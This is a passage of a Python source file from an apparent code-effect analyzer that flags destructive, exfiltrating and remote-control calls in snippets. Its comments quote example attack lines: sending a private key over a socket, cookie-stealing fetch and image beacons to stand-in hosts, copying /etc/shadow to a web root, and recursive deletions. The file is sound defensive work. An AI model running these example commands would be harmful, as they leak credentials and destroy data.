        e = sqlx.cypher(text)
        self.out.texts.append(text)
        self.out.kinds.add("read" if e.kind == "read" else "write")
        if e.kind == "destroy":
            self.out.add(Effect(e.kind, e.scope, e.text))

    def snippet(
        self,
        text: str,
        role: str,
        python_only: bool = False,
        js_only: bool = False,
        looks_python: bool | None = None,  # `code.looks_like_python(text)`, when known
    ) -> bool:
        """A code snippet; False when the text is not code after all."""
        if self.budget <= 0:
            return True
        if not js_only and ("\n!" in "\n" + text or text.lstrip().startswith("%%")):
            text = self._notebook_shell(text)
            looks_python = None
            if not text.strip():
                return True
        if looks_python is None and role != "code" and not js_only:
            looks_python = code.looks_like_python(text)
        python = not js_only and (role == "code" or bool(looks_python))
        sn = code.parse_python(text) if python else None
        if sn is None and python_only:
            return False
        if sn is None:
            if role == "code" and "StartInfo" in text:
                self._start_info(text)
            if role in ("code", "command") and not js_only:
                self._other_languages(text)
            # not Python after all: JavaScript, or call chains of another language that read
            # like it (Ruby's `ActiveRecord::Base.connection.execute(…)`, PHP, Java)
            chained = python and _METHOD_CALL.search(text) is not None
            if not (role == "code" or js_only or chained or code.looks_like_js(text)):
                return False
            scanned = text
            if "::" in text:  # `forEach(File::delete)`, `std::fs::remove_dir_all(…)`
                if "]::" in text:  # PowerShell's `[Diagnostics.Process]::Start(…)`: dotted
                    scanned = _PWSH_STATIC.sub(r"\1.", scanned)
                scanned = _METHOD_REF.sub(r"\1.\2()", scanned)
                scanned = _PATH_CALL.sub(lambda m: m.group(1).replace("::", "."), scanned)
            if "[]" in scanned:  # Java/C#'s `new String[]{"sh", "-c", …}`: an array literal
                scanned = _NEW_ARRAY.sub(r"\1", scanned)
            sn = code.scan_calls(scanned, "js", self.table.code_calls.wrappers)
        if _BARE_METHOD.search(text) and (
            (role == "code" and sn.language == "python")
            or (sn.language != "python" and _RUBY_TEXT.search(text) is not None)
        ):
            # Ruby calls methods without parentheses (`User.delete_all`, `bucket.delete!`):
            # Python reads an attribute there, and the call scanner nothing; the record-wide
            # ones are the calls they are
            cat = self.table.code_calls
            bare = code.scan_calls(_RUBY_BARE_CALL.sub(r"\1()", text), "js").calls
            parsed = {x.chain.replace("()", "") for x in sn.calls}  # Python read them already
            sn.calls.extend(
                c
                for c in bare
                if any(cat.hit(k, c.name.lower()) for k in _RECORD_WIDE)
                and c.chain.replace("()", "") not in parsed
                # written with its parenthesis (`df = df.drop(columns=…)`): a call Python
                # read already, its receiver resolved (a data frame, no store)
                and c.chain.replace("()", "") + "(" not in text
            )
        if sn.language != "python" and ".forEach(" in text:
            _each_js(sn, text)
        if sn.language != "python" and "for" in text:
            _each_typed(sn, text, self.table.code_calls)
        if sn.language != "python" and ("|" in text or "&:" in text):  # a Ruby block's shape
            _each_ruby(sn, text, self.table.code_calls)
        if not sn.calls:
            return False
        self.budget -= 1
        self.out.texts.append(text)
        if sn.language != "python" and _mongo_reads_only(sn, text, self.table.code_calls):
            self.out.kinds.add("read")
            return True
        self.out.kinds.add("exec")
        self._calls(sn, text)
        self._lifecycle_calls(sn, text)
        self._http_calls(sn, text)
        self._container_calls(sn)
        return True

    def _calls(self, sn: code.Snippet, text: str) -> None:
        """What a snippet's calls do (see `code:` in effects.yaml)."""
        cat = self.table.code_calls
        t = self.table
        by_chain = {c.chain: c for c in sn.calls}
        strings = sn.strings
        socket = bool(_SOCKET_TEXT.search(text))
        runs_dynamic = False  # code that runs what it is given at run time (exec, popen, iex…)
        shell_bound = any(_SHELL_PATH.search(x) for x in strings)
        # one variable given as the keyword that authenticates a client (`code.auth_keywords`:
        # `WebClient(token=os.environ["SLACK_TOKEN"])`) is used there, not read out
        env_read = sn.env_dump or any(
            not cat.hit("auth_keywords", k.lower()) for k in sn.env_keywords[:16]
        )
        secret_read = "the environment" if env_read or _ENV_DUMP_JS.search(text) else ""
        data_read = ""  # a data store's dump, copy or export read (`is_data_copy`)
        send_dest = ""
        mail_send = False
        # the root a listing walks (wherever the walk sits in the call order): a deletion with
        # no target of its own deletes what the listing yields
        walk_root = next(
            (
                c.args[0]
                for c in sn.calls
                if c.args and c.args[0] and cat.hit("walk", c.chain.lower())
            ),
            "",
        )
        runs_dynamic = bool(_DYNAMIC_EXEC.search(text))
        # JavaScript keeps what it downloads in callbacks and promises: content fetched from a
        # URL anywhere in the snippet may be what a non-literal eval runs.
        js_fetched = sn.language != "python" and any(
            cat.hit("fetch", c.chain.lower()) for c in sn.calls
        )
        open_target: tuple[str, str] | None = None
        for call in sn.calls:  # files opened for writing, whatever order the calls come in
            if call.name != "open" or not call.args:
                continue
            if len(call.args) > 1 and any(m in call.args[1] for m in "wax"):
                open_target = (call.args[0], call.args[1])
                break
            if call.recv and len(call.args[0]) <= 3 and any(m in call.args[0] for m in "wax"):
                open_target = (call.recv, call.args[0])  # `Path('/etc/shadow').open('w')`
                break
        flat = ""  # the snippet without spaces and quotes, for `weaken_when` texts
        # a database made in memory for the snippet (a test fixture) holds nothing to lose
        every = "temp" if _MEMORY_DB.search(text) else "data"
        kills_all = -1  # a loop over every process with no condition: looked for once, if needed
        for call in sn.calls:
            chain = call.chain.lower()
            name = call.name.lower()
            first = call.args[0] if call.args else ""
            evidence = f"{call.chain}({first[:60]!r})" if first else f"{call.chain}()"
            if call.each:
                # a call once per item of a listing: every item, unless the listing is narrowed;
                # a runner's listing is the statement it is given (`code.statements`)
                judged = call
                if call.stmt and cat.hit("statements", call.stmt.split("()", 1)[0].lower()):
                    judged = code.Call(f"{call.stmt}().{call.name}", each=True)
                if (cat.hit("delete_records", name) or cat.hit("delete_each", name)) and _every(
                    judged, cat, by_chain
                ):
                    # files of a folder's listing (`for f in os.listdir("/tmp/job")`): where
                    # the folder is says what is lost; records of a collection: data
                    listing = by_chain.get(call.chain.rsplit(".", 1)[0].removesuffix("()"))
                    root = ""
                    if listing is not None and cat.hit("walk", listing.chain.lower()):
                        root = listing.args[0] if listing.args else ""
                        # a listing of a path object: the path it was made from
                        # (`Path("/srv/uploads").iterdir()`)
                        made = listing.chain.rsplit("().", 1)[0] if "()." in listing.chain else ""
                        base = by_chain.get(made)
                        if base is not None and base.args:
                            root = base.args[0]
                    if root:
                        scope = t.path_scope(root, True)
                        what = describe("deletes every file of", scope, False, evidence)
                    else:
                        scope = "data"
                        what = describe("deletes every record, one by one", "", False, evidence)
                    self.out.add(Effect("destroy", scope, what))
                continue
            if cat.hit("update_records", name) and _overwrites_all(call, cat, by_chain, sn.calls):
                self.out.add(
                    Effect(
                        "destroy", "data", describe("overwrites every record", "", False, evidence)
                    )
                )
            if cat.hit("replace_table", name) and _replaces(call, by_chain):
                # a table replaced by what the code holds: catastrophic where it is production
                scope = "data" if _PROD_WORD.search(text) else "service"
                if every == "temp":
                    scope = "temp"
                self.out.add(
                    Effect("destroy", scope, describe("replaces a table", "", False, evidence))
                )
            weak = _when(cat, "weaken_when", name, call)
            if weak is None and name in cat.text_calls:
                flat = flat or re.sub(r"[\s'\"]+", "", text).lower()
                weak = _when_text(cat, "weaken_when_text", name, flat)
                gone = _when_text(cat, "destroy_when_text", name, flat)
                if gone:
                    self.out.add(Effect("destroy", every, describe(gone, "", False, evidence)))
            if weak:
                self.out.add(Effect("weaken_security", "", describe(weak, "", False, evidence)))
            if cat.hit("walk", chain) and first:
                walk_root = walk_root or first
            if cat.hit("process_builders", chain) and first:
                self.argv(_built_argv(call, sn.calls), "command")
            if cat.hit("shell", chain):
                words = [a for a in call.args if a]
                if call.arglist:
                    argv = call.arglist
                    if (
                        first
                        and " " not in first.strip()
                        and program_name(first) != program_name(argv[0])
                    ):
                        # a program, then its words (`System.cmd("sh", ["-c", …])`, Dart's
                        # `Process.run('rm', ['-rf', p])`)
                        argv = [first, *argv]
                    self.argv(argv, "command")
                elif len(words) == 2 and (
                    program_name(words[0]) in _RAW_ARGS_SHELLS or cat.hit("argument_text", chain)
                ):
                    # `Process.Start("cmd.exe", "/c rd /s /q C:\\data")`: the arguments are one text
                    self.shell(f"{words[0]} {words[1]}", strict=False, depth=1)
                elif len(words) > 1 and len(words) == len(call.args) and " " not in first.strip():
                    # a program and its words (`spawn("rm", ["-rf", p])`, Go's `exec.Command`)
                    self.argv(words, "command")
                elif first:
                    self.shell(first, strict=False, depth=1)
                else:
                    runs_dynamic = True
                if cat.hit("shells_bound", chain) or (
                    call.arglist and _SHELL_PATH.search(call.arglist[0])
                ):
                    shell_bound = (
                        shell_bound
                        or bool(first or call.arglist)
                        and bool(_SHELL_PATH.search(" ".join(call.arglist) or first))
                    )
            elif (
                first
                and "." not in chain
                and cat.hit("bare_shell", chain)
                and (
                    chain == "system"
                    or sn.language != "python"
                    or not code.looks_like_python(first)
                )
            ):
                # `system("rm -rf /var/www")` in PHP, Perl or Ruby; Python's `exec` runs Python
                words = [a for a in call.args if a]
                if len(words) > 1 and len(words) == len(call.args) and " " not in first.strip():
                    self.argv(words, "command")  # `system("sh", "-c", "rm -rf …")`
                else:
                    # in Python, `exec` runs Python and a name may be anyone's: only a line that
                    # clearly is a command counts; in other code it is the shell's
                    strict = chain != "system" and sn.language == "python"
                    self.shell(first, strict=strict, depth=1)
            if chain.startswith(("os.dup2", "pty.spawn")):
                shell_bound = True
            if cat.hit("manage", chain) and first:
                self.argv(["manage.py", *[a for a in call.args if a]], "command")
            if cat.hit("sql", chain) or cat.hit("sql", name):
                # the statement may follow another argument (Go's `db.ExecContext(ctx, "…")`)
                stmts = call.args or code.string_literals(call.argtext, 4)
                for a in stmts:
                    if a and sqlx.looks_like_sql(a):
                        self.sql(a, strict=False, temp=every == "temp")
            if first and "(" in first and sqlx.looks_like_cypher(first):
                self._cypher(first)  # Neo4j's `session.run("MATCH (n) DETACH DELETE n")`
            if cat.hit("apply_each", chain) and walk_root:
                # `array_map('unlink', glob('/srv/x/*'))`, `map(os.remove, glob.glob(…))`
                given = [x.lower() for x in (*call.refs, *call.args[:2]) if x and len(x) < 64]
                killer = next(
                    (f for f in given if cat.hit("delete_path", f) or cat.hit("delete_tree", f)), ""
                )
                if killer:
                    scope = t.path_scope(walk_root, True)
                    what = f"{call.chain}({killer}, {walk_root[:60]!r})"
                    self.out.add(Effect("destroy", scope, describe("deletes", scope, True, what)))
            tree = cat.hit("delete_tree", chain)
            if tree and _records_method(cat, chain, name):
                # a key or a row by its key (`redis.del(k)`); every record is for `delete_records`
                self.out.add(
                    Effect("destroy", "item", describe("deletes", "item", False, evidence))
                )
            elif tree or cat.hit("delete_path", chain):
                target = first or call.recv or walk_root
                recursive = (
                    tree
                    or call.kwargs.get("recursive", "").lower() == "true"
                    or "recursive:true" in "".join(call.argtext.split()).lower()
                    or (not first and not call.recv and bool(walk_root))
                )
                scope = t.path_scope(target, recursive, remote=False) if target else "item"
                self.out.add(
                    Effect("destroy", scope, describe("deletes", scope, recursive, evidence))
                )
            destroys = _destroy_when(cat, name, call)
            truncates = cat.hit("empty_file", chain)
            emptied_path = (
                _emptied_target(call, by_chain, truncates)
                if truncates or cat.hit("write_whole", chain)
                else None
            )
            if emptied_path is not None:
                # a file emptied: with no path of its own in a walk, every file walked
                root = "" if emptied_path else _walked_root(sn, cat, by_chain, text)
                if root:
                    scope = t.path_scope(root, True)
                    what = f"{evidence} in a walk of {root[:60]!r}"
                    self.out.add(
                        Effect(
                            "destroy", scope, describe("empties every file of", scope, False, what)
                        )
                    )
                self.out.kinds.add("write")
            elif destroys:
                self.out.add(Effect("destroy", every, describe(destroys, "", False, evidence)))
            elif chain.split(".", 1)[0].lower() in cat.names("in_memory"):
                pass  # `pd.read_csv(…).drop(columns=…)`: a frame in memory, no store
            elif cat.hit("delete_everything", chain) or cat.hit("delete_everything", name):
                # a store named as scratch (`indices.delete(index="test-tmp-123")`) holds no data
                store = first or next(iter(call.kwargs.values()), "")
                scratch = bool(store) and t.store_scope(store) == "temp"
                scope = "temp" if scratch else every
                self.out.add(
                    Effect("destroy", scope, describe("deletes every record", "", False, evidence))
                )
            elif cat.hit("delete_given", name):
                # what the argument refers to goes: narrowed by a step (`.doc(…)`), one record
                ref = "".join(call.argtext.lower().split())
                narrowed = any(f".{f}(" in ref for f in cat.names("filters"))
                scope = "item" if narrowed or not ref else every
                what = f"{call.chain}({call.argtext[:80]})"
                self.out.add(Effect("destroy", scope, describe("deletes", scope, True, what)))
                self.out.kinds.add("write")
            elif cat.hit("delete_records", name) and not cat.hit("delete_path", chain):
                if _unfiltered(call, cat, by_chain, sn.calls):
                    self.out.add(
                        Effect(
                            "destroy", every, describe("deletes every record", "", False, evidence)
                        )
                    )
                elif not _narrowed_receiver(call, cat, by_chain):
                    self._verb_noun_call(call, evidence, True, text, by_chain)
                self.out.kinds.add("write")
            else:
                self._verb_noun_call(call, evidence, False, text, by_chain, strings)
            if cat.hit("exec", chain) or cat.hit("exec", name):
                if call.remote_arg or call.decoded or (js_fetched and call.nargs and not first):
                    self.out.add(
                        Effect(
                            "remote_code",
                            "",
                            describe(
                                "runs code fetched or decoded at run time", "", False, evidence
                            ),
                        )
                    )
                if call.decoded:
                    self.snippet(call.decoded, "code")
                    self.shell(call.decoded, strict=True, depth=1)
                elif first and code.looks_like_python(first):
                    self.snippet(first, "code")
                if not first:
                    runs_dynamic = True
                low_args = call.argtext.lower()
                if "buffer.from" in low_args and "base64" in low_args:
                    self.out.add(
                        Effect(
                            "remote_code",
                            "",
                            describe("runs a decoded payload", "", False, evidence),
                        )
                    )
                if "fetch(" in low_args or ("http" in low_args and "get(" in low_args):
                    self.out.add(
                        Effect(
                            "remote_code",
                            "",
                            describe("runs code fetched at run time", "", False, evidence),
                        )
                    )
            if (
                name
                in (
                    "popen",
                    "system",
                    "exec",
                    "spawn",
                    "passthru",
                    "shell_exec",
                    "proc_open",
                    "iex",
                    "invoke-expression",
                )
                and not first
            ):
                runs_dynamic = True
            if cat.hit("sockets", chain) or cat.hit("sockets", name):
                socket = True
            if cat.hit("secrets", chain) or cat.hit("secrets", name):
                secret_read = secret_read or call.chain
            if cat.hit("pack", chain) or cat.hit("pack", name):
                packed = call.args + list(call.kwargs.values())
                for a in packed:
                    # a credential (`make_archive('/tmp/k', 'zip', '~/.ssh')`) or a data store's
                    # copy (`shutil.copy('/var/backups/users.csv', …)`) among what is packed
                    credential = bool(a) and t.is_credential(a)
                    if not credential and not (a and t.is_data_copy(a)):
                        continue
                    if credential:
                        secret_read = secret_read or a
                        self.out.secret_sources.append(a)
                    else:
                        data_read = data_read or a
                    # `shutil.copy('/etc/shadow', '/var/www/html/')`: where others read it
                    public = next((d for d in packed if d and t.is_public_place(d)), None)
                    if public is not None:
                        what = f"publishes {_short(a)} to {public}"
                        self.out.add(Effect("exfiltrate", "", describe(what, "", False, evidence)))
                    break
            if first and first.lstrip()[:6].lower() in ("select", "copy ", "\\copy"):
                table = sqlx.whole_table_read(first)  # `pd.read_sql('SELECT * FROM customers')`
                if table:
                    data_read = data_read or f"every row of {table}"
                    self.out.dumped.append(table)
            if (
                data_read and first and name in _TABLE_WRITERS and t.is_public_place(first)
            ):  # `df.to_csv('/var/www/html/customers.csv')`: the rows read, published
                what = f"publishes {_short(data_read)} to {first}"
                self.out.add(Effect("exfiltrate", "", describe(what, "", False, evidence)))
            if cat.hit("read_file", name):
                path = first or call.recv
                mode = call.args[1] if len(call.args) > 1 else call.kwargs.get("mode", "r")
                if path and t.is_credential(path) and not any(m in mode for m in "wa"):
                    secret_read = secret_read or path
                    self.out.secret_sources.append(path)
                elif path and not any(m in mode for m in "wax") and t.is_data_copy(path):
                    data_read = data_read or path  # `open('/var/backups/users.csv', 'rb')`
                if (
                    name == "open"
                    and path
                    and any(m in mode for m in "wax")
                    and not any(
                        c.name == "write" and c.chain.startswith("open()") for c in sn.calls
                    )
                ):
                    self.file_write(path, None, "a" in mode, evidence, 1)
            if (
                name in ("write", "writelines")
                and open_target is not None
                and call.args  # `f.write('')` empties the file as surely as any text replaces it
                and "open" in chain
            ):
                self.file_write(open_target[0], first, "a" in open_target[1], evidence, 1)
            if cat.hit("send", chain) or cat.hit("send", name):
                self.out.kinds.add("write")
                # an upload's local file (`sftp.put('/root/.ssh/id_rsa', …)`), or each file a
                # listing names when the path is computed (`for f in glob.glob(…): sftp.put(f)`)
                local = call.args[0] if call.args else ""
                if not local and (call.each or call.nargs):
                    local = next(
                        (
                            o.args[0]
                            for o in sn.calls
                            if o.args and o.args[0] and cat.hit("list_files", o.chain.lower())
                        ),
                        "",
                    )
                if local and t.is_credential(local):
                    secret_read = secret_read or local
                    self.out.secret_sources.append(local)
                elif local and t.is_data_copy(local):
                    data_read = data_read or local
                for a in call.args + list(call.kwargs.values()):
                    if a.startswith(("http://", "https://", "ftp://")):
                        send_dest = send_dest or a
                        self.out.urls.append(a)
                m = _URL_IN_ARGS.search(call.argtext) if not send_dest else None
                if m is not None:  # `fetch("https://x/?d=" + document.cookie)`
                    send_dest = m.group(0)
                    self.out.urls.append(send_dest)
                h = _HOST_OPTION.search(text) if not send_dest else None
                if h is not None:  # `https.request({host: 'x.org', method: 'POST'}).end(…)`
                    send_dest = "https://" + h.group(1)
                    self.out.urls.append(send_dest)
                h = _CONNECTION_HOST.search(text) if not send_dest else None
                if h is not None:  # `HTTPSConnection('x.org').request('POST', '/', body)`
                    send_dest = "https://" + (h.group(1) or h.group(2))
                    self.out.urls.append(send_dest)
                if name in ("sendmail", "send_message", "send_mail", "sendmessage"):
                    mail_send = True
            if cat.hit("kill", chain) or (name in ("kill", "terminate") and "process" in chain):
                if kills_all < 0:
                    spares_none = _EVERY_PROCESS.search(text) and not _CONDITION.search(text)
                    kills_all = 1 if spares_none else 0
                named = {x.lower() for x in strings} & t.security_units
                system = {x.lower() for x in strings} & t.system_units
                if named:
                    self.out.add(
                        Effect(
                            "weaken_security",
                            "",
                            describe(f"kills {', '.join(sorted(named))}", "", False, evidence),
                        )
                    )
                elif first in ("1", "-1") or system:
                    self.out.add(
                        Effect(
                            "stop_service",
                            "system",
                            describe("kills a system process", "", False, evidence),
                        )
                    )
                elif kills_all:
                    # `for p in psutil.process_iter(): p.kill()`: no process is spared
                    self.out.add(
                        Effect(
                            "stop_service",
                            "system",
                            describe("kills every process", "", False, evidence),
                        )
                    )
                else:
                    self.out.add(
                        Effect(
                            "stop_service", "item", describe("kills a process", "", False, evidence)
                        )
                    )
            if cat.hit("chmod", chain):
                mode = call.args[1] if len(call.args) > 1 else ""
                target = first or call.recv
                if mode:
                    jj = judge(self.table, split_words(["chmod", _octal(mode), target], evidence))
                    for e in jj.effects:
                        self.out.add(e)
            if name in ("write_text", "write_bytes") and call.recv:
                self.file_write(call.recv, first or None, False, evidence, 1)
            elif (
                name
                in (
                    "writefilesync",
                    "appendfilesync",
                    "writefile",
                    "appendfile",
                    "file_put_contents",
                )
                and first
            ):
                content = call.args[1] if len(call.args) > 1 else None
                self.file_write(first, content, "append" in name, evidence, 1)
            if cat.hit("pay", chain):
                amount = _amount_of(call)
                if amount is not None:
                    minor = any(
                        m in chain
                        for m in (self.table.raw.get("code") or {}).get("pay_minor_units") or ()
                    )
                    self.out.amounts.append(amount / 100.0 if minor else amount)
                self.out.add(Effect("move_money", "", describe("moves money", "", False, evidence)))
        if mail_send and not send_dest:
            emails = [x for x in strings if _EMAIL.fullmatch(x.strip())]
            if emails:
                send_dest = emails[-1]
        # `socket.create_connection(("203.0.113.8", 443)); s.send(open(key).read())`
        if (
            socket
            and not send_dest
            and secret_read
            and any(c.name.lower() in _SOCKET_SEND for c in sn.calls)
        ):
            m = _CONNECT_TO.search(text)
            if m is not None:
                send_dest = f"tcp://{m.group(1)}"
        if socket and (shell_bound or runs_dynamic):
            self.out.add(
                Effect(
                    "remote_control",
                    "",
                    describe("binds a shell to a network connection", "", False, text),
                )
            )
        # a literal the text itself says is base64 (`Buffer.from(x, 'base64')`, `b64decode(x)`)
        # may be short: `bHMgLWxh` is `ls -la`
        b64 = (
            _B64_SHORT if "base64" in text or "atob(" in text or "b64decode" in text else _B64_WORD
        )
        decoded = [code.decode_base64(x) for x in strings if b64.match(x.strip())]
        if "H*" in text or "fromhex" in text or "unhexlify" in text or "hex2bin" in text:
            # a literal the text says is hex (Perl's `pack("H*", …)`, `bytes.fromhex(…)`)
            decoded += [code.decode_hex(x) for x in strings if _HEX_WORD.match(x.strip())]
        if "rot13" in text or "rot_13" in text:  # `codecs.decode('ez -es /', 'rot13')`
            decoded += [codecs.encode(x[:4096], "rot13") for x in strings if " " in x]
        decoded = [x for x in decoded if x]
        if decoded and _EXEC_WORD.search(text):
            self.out.add(
                Effect("remote_code", "", describe("runs a decoded payload", "", False, text))
            )
            for body in decoded:
                if not self.snippet(body, "code"):
                    self.shell(body, strict=False, depth=1)
        low_text = text.lower()
        held = [x for x in cat.spec.get("secret_values") or () if str(x) in low_text]
        if held and not secret_read:
            secret_read = str(held[0])  # the page's cookies or storage (tokens, sessions)
        beacon = _BEACON.search(text) if not send_dest and held else None
        if beacon is not None:  # `new Image().src = "https://x/p.gif?c=" + document.cookie`
            send_dest = beacon.group(1)
        sent = secret_read or (
            data_read if send_dest and self.dest_class(send_dest) in _OUTSIDE else ""
        )
        if sent and send_dest and self.dest_class(send_dest) != "internal":
            host = send_dest.split("://", 1)[-1].split("/", 1)[0]
            self.out.add(
                Effect(
                    "exfiltrate", "", describe(f"sends {_short(sent)} to {host}", "", False, text)
                )
            )
        if secret_read:
            self.out.add(
                Effect("read_secret", "", describe("reads secrets", "", False, secret_read))
            )

    def _notebook_shell(self, text: str) -> str:
        """Notebook cells: `!cmd` lines and `%%bash` / `%%sh` cells are shell; the rest is code."""
        lines = text.splitlines()
        if lines and lines[0].strip().split()[:1] in (
            ["%%bash"],
            ["%%sh"],
            ["%%script"],
            ["%%shell"],
        ):
            self.shell("\n".join(lines[1:]), strict=False, depth=1)
            return ""
        rest = []
        for line in lines:
            stripped = line.lstrip()
            if stripped.startswith("!"):
                self.shell(stripped[1:], strict=False, depth=1)
            elif stripped.startswith("%") and not stripped.startswith("%%"):
                continue
            else:
                rest.append(line)
        return "\n".join(rest)

    def _powershell_code(self, value: str) -> bool:
        """Code that is PowerShell, not Go, Java or C# whose comment or string holds a hyphened
        word with a capital (`// the per-PR stack`, `"Content-Type"`): its `Verb-Noun` words
        start with a PowerShell verb, or it has PowerShell's `$env:`, `[Type]::` or `$x = …`."""
        if "]::" in value or ("$" in value and _PWSH_MARK.search(value) is not None):
            return True
        verbs = self.table.powershell_verbs
        return any(m.group(1).lower() in verbs for m in _VERB_NOUN.finditer(value, 0, 65536))

    def _control_off(self, parts: list[str], strings: Sequence[str], evidence: str) -> None:
        """A weaken verb on a control that the call names only by its kind (`deactivatePolicy`,
        `disable_rule`: `switched_off.names`), when the snippet's strings name a security
        control (`listPolicies({type: 'MFA_ENROLL'})`): that control switched off."""
        t = self.table
        if not any(_singular(p) in t.switched_off["names"] for p in parts):
            return
        named = _security_words(t, strings)
        if named:
            what = describe(f"turns {named[0]} off", "", False, evidence)
            self.out.add(Effect("weaken_security", "", what))

    def _verb_noun_call(
        self,
        call: code.Call,
        evidence: str,
        only_severe: bool,
        text: str = "",
        by_chain: dict[str, code.Call] | None = None,
        strings: Sequence[str] = (),
    ) -> None:
        """`s3.delete_bucket(…)`, `new DeleteBucketCommand(…)`, `stop_logging()`,
        `client.get_bucket("x").delete()`: the method's own words name what it acts on; a bare
        verb takes its noun from an object built for the call (`get_bucket()`) or from what
        made the name it is called on (`rg := NewResourceGroupsClient(…)`, `s :=
        auto.SelectStack(…)`), never from a client's variable name (`db`, `s3`). A control
        switched off by a name that says only its kind (`deactivatePolicy`) is named by the
        snippet's strings (`'MFA_ENROLL'`)."""
        t = self.table
        # (an acronym or a digit ends a word: `DeleteS3BucketWithObjectsAsync`, `deleteDBSnapshot`)
        parts = [p.lower() for p in code.NAME_PARTS.split(call.name) if p]
        if t.change_verbs.isdisjoint(parts):
            return
        words = list(parts)
        steps = call.chain.split(".")[:-1]
        made: code.Bound | None = None
        if steps and (
            len(parts) == 1 or len(set(parts) - t.destroy_verbs - {"begin", "async", "start"}) == 0
        ):
            recv = _collection_step(steps, t.code_calls)
            if recv.endswith("()") or recv.lower() not in _CLIENT_NAMES:
                words += [
                    p.lower() for p in re.split(r"[_]+|(?<=[a-z])(?=[A-Z])", recv.rstrip("()")) if p
                ]
            if text and len(steps) == 1 and not recv.endswith("()"):
                made = code.bindings(text).get(recv)
                if made is not None:
                    words += made.maker
            words += [
                a.lower()
                for a in call.args[:1]
                if a and " " not in a and len(a) < 40 and a.lower() in t.security_units
            ]
        j = Judged()
        if not verb_noun(t, words, evidence, j):
            if strings and not t.weaken_verbs.isdisjoint(parts):
                self._control_off(parts, strings, evidence)
            return
        # the store the call names, when named as scratch (`indices.delete(index="tmp-1")`)
        named = (call.args[:1] or [""])[0] or next(iter(call.kwargs.values()), "")
        scratch = bool(named) and t.store_scope(named) == "temp"
        if not named and text and any(e.kind == "destroy" for e in j.effects):
            # named where it was made (`SelectStack(ctx, "preview-pr-1234")`) or by a name bound
            # to a string (`RemoveStack(ctx, name)`): an ephemeral stack or a scratch store is
            # torn down, nothing that lasts
            bound = code.bindings(text)
            # its own strings after a context (`ctx, "rg-tmp"`), not an object's fields
            given = code.string_literals(_OBJECT_LITERAL.sub("", call.argtext), 4)
            given += made.literals if made is not None else []
            recv = call.chain.rsplit(".", 1)[0] if "." in call.chain else ""
            maker = by_chain.get(recv[:-2]) if by_chain and recv.endswith("()") else None
            if maker is not None:  # `auto.select_stack(stack_name="pr-12").destroy()`
                given += [*maker.args, *maker.kwargs.values()]
            for n in code.NAME_TOKEN.findall(call.argtext):
                b = bound.get(n)
                if b is not None and not b.maker:
                    given += b.literals
            scratch = any(t.store_scope(x) == "temp" for x in given if x)
        for e in j.effects:
            if e.kind == "destroy" and (
                e.scope not in ("data", "infra", "all", "system")
                or (scratch and e.scope in ("data", "infra"))
            ):
                continue
            self.out.add(e)


def _singular(word: str) -> str:
    """`policies` -> `policy`, `rules` -> `rule`."""
    if word.endswith("ies"):
        return word[:-3] + "y"
    return word[:-1] if word.endswith("s") else word


def _security_words(t: EffectTable, strings: Sequence[str]) -> list[str]:
    """The security controls short strings name (`'MFA_ENROLL'`, `"Require MFA"`), also in two
    words (`conditionalAccess` is the table's `conditional-access`)."""
    found: list[str] = []
    for x in strings[:64]:
        if len(x) > 64 or not x.strip():
            continue
        parts = [p.lower() for p in name_words(x)[:8]]
        found += [p for p in parts if p in t.security_nouns]
        found += [f"{p}-{q}" for p, q in zip(parts, parts[1:], strict=False)
                  if f"{p}-{q}" in t.security_nouns]  # fmt: skip
    return found


def _collection_step(steps: list[str], cat: CodeCalls) -> str:
    """The step a call is made on, past the filters that narrow it: `instances` of
    `ec2.instances.filter(…).terminate()`, `objects` of `X.objects.all().delete()`."""
    for x in reversed(steps):
        if not (x.endswith("()") and (x[:-2] == "all" or cat.hit("filters", x[:-2].lower()))):
            return x
    return steps[-1]


def _every_key(lookup: str, value: str) -> bool:
    """A Django-style lookup every row meets: a key above 0 (`pk__gt=0`, `id__gte=1`) or
    not null (`pk__isnull=False`)."""
    field, _, op = lookup.lower().rpartition("__")
    if field not in ("pk", "id"):
        return False
    return (
        (op == "gt" and value in ("0", "-1"))
        or (op == "gte" and value in ("0", "1"))
        or (op == "isnull" and value in ("False", "false"))
    )


def _unfiltered(
    call: code.Call, cat: CodeCalls, by_chain: dict[str, code.Call], calls: list[code.Call]
) -> bool:
    """A record deletion with no narrowing filter: `X.objects.all().delete()`,
    `X.objects.filter().delete()`, `session.query(X).delete()`, `deleteMany({})`,
    `destroy({where: {}})`, `knex('t').del()`, `delete(X)` never followed by `.where(…)`."""
    if call.empty_first:
        return True
    arg = "".join(call.argtext.split()).lower()
    if "truncate:true" in arg or arg.startswith("{where:{}") or arg == "{}":
        return True
    if _OPTIONS_ONLY.fullmatch(arg):
        return True  # `deleteFiles({force: true})`: how to delete, not which records
    steps = [s for s in call.chain.split(".") if s]
    prefix = ""
    for s in steps[:-1]:
        prefix = f"{prefix}.{s}" if prefix else s
        if s.endswith("()") and cat.hit("filters", s[:-2].lower()):
            inner = by_chain.get(prefix[:-2])
            if inner is None or inner.nargs or inner.args:
                excludes_nothing = (
                    inner is not None
                    and s[:-2].lower() == "exclude"
                    and inner.kwargs
                    and all(v in ("[]", "{}") for v in inner.kwargs.values())
                ) or (
                    inner is not None
                    and not inner.args
                    and bool(inner.kwargs)
                    and all(_every_key(k, v) for k, v in inner.kwargs.items())
                )
                if not excludes_nothing:
                    return False  # a filter with arguments narrows
    later = call.chain + "()."
    for other in calls:
        if (
            other.chain.startswith(later)
            and cat.hit("filters", other.name.lower())
            and (other.nargs or other.args)
        ):
            return False
    if (
        call.chain.lower() in _TABLE_DELETES
        and call.nargs == 1
        and (not call.args or not call.args[0])
    ):
        return True  # delete(Order) / db.delete(users): a statement over the whole table
    if call.nargs == 1 and not any(call.args) and _whole_set_given(call):
        return True
    if call.nargs or call.args:
        return False
    low = [s.lower() for s in steps[:-1]]
    return (
        any(
            (
                s.endswith("()")
                and s[:-2]
                in (
                    "all",
                    "query",
                    "table",
                    "from",
                    "collection",
                    "objects",
                    "knex",
                    "model",
                    "bucket",
                    "filter",
                    "getrepository",
                )
            )
            or s in ("objects", "collection")
            for s in low
        )
        or (bool(low) and low[0] in ("prisma", "db", "knex()") and len(steps) >= 3)
        or any(s[:1].isupper() for s in steps[:-1])
        or call.chain.lower()
        in ("sqlalchemy.delete", "sqlalchemy.update", "sqlalchemy.sql.delete", "delete", "update")
        and call.nargs > 0
    )


# Variable names of clients: a receiver named so says nothing about what is deleted.
_CLIENT_NAMES: Final = frozenset(
    {
        "db",
        "client",
        "conn",
        "connection",
        "session",
        "cursor",
        "cur",
        "api",
        "sdk",
        "s3",
        "ec2",
        "svc",
        "service",
